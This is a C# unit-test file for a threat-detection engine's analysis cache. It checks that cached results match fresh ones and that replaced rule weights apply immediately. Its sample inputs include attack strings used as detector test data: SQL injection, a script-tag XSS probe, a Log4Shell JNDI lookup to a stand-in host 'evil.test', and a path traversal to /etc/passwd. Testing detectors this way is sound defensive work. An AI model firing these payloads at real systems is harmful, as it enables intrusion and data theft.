using InfiniteSecurity.Detection.Rules;

namespace InfiniteSecurity.Detection.UnitTests;

/// <summary>The engine's memory of analyses changes nothing but the cost: the same answer as a fresh analysis, every
/// time, and never an answer computed with weights that have since been replaced.</summary>
public sealed class AnalysisCacheTests
{
    private static readonly string[] Inputs =
    [
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "1' OR '1'='1' -- ",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.test/a}",
        "../../etc/passwd",
    ];

    [Test]
    public void A_remembered_analysis_is_the_fresh_one()
    {
        var policy = new DecisionPolicy(new DecisionPolicyOptions());
        var cached = new ThreatAnalyzer(policy);
        var fresh = new ThreatAnalyzer(policy, cacheEntries: 0);
        foreach (var input in Inputs)
        {
            var expected = fresh.Analyze(input);
            for (var i = 0; i < 3; i++)
            {
                var got = cached.Analyze(input);
                Assert.That((got.IsThreat, got.Category, got.Confidence, got.Severity, got.RiskScore), Is.EqualTo((expected.IsThreat, expected.Category, expected.Confidence, expected.Severity, expected.RiskScore)), input);
                Assert.That(got.Findings, Is.EqualTo(expected.Findings), input);
            }
        }
    }

    [Test]
    public void Replaced_weights_are_used_at_once_and_a_full_cache_still_answers()
    {
        const string input = "1' OR '1'='1' -- ";
        var weights = new RuleWeightOverrides();
        var analyzer = new ThreatAnalyzer(new DecisionPolicy(new DecisionPolicyOptions()), weights, cacheEntries: 2);
        var before = analyzer.Analyze(input);
        var rule = before.Findings[0].RuleId;
        Assert.That(RuleCatalogue.Default.TryGet(rule, out var definition), Is.True);
        foreach (var other in Inputs)
        {
            analyzer.Analyze(other);
        }

        weights.Replace(new Dictionary<string, double> { [rule] = definition.Floor }, RuleCatalogue.Default);
        Assert.That(analyzer.Analyze(input).Findings.Single(f => f.RuleId == rule).Confidence, Is.LessThan(before.Findings[0].Confidence));
        weights.Replace(new Dictionary<string, double>(), RuleCatalogue.Default);
        Assert.That(analyzer.Analyze(input).Confidence, Is.EqualTo(before.Confidence));
    }
}
